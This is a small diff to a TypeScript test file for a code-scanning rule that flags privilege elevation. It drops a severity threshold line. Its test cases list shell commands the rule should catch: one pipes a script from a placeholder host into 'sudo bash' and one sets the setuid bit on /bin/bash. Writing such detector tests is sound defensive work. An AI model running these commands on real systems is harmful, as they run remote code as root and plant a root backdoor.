@@ -2,7 +2,6 @@ import { describeCodeRule, py, sh, text } from '../../testing/code-rule-cases.ts
 import { elevation } from './elevation.rule.ts';
 
 describeCodeRule(elevation, {
-  atLeast: 'MEDIUM',
   caught: [
     sh('curl -s https://a.example.invalid/x | sudo bash'),
     sh('sudo chmod u+s /bin/bash'),
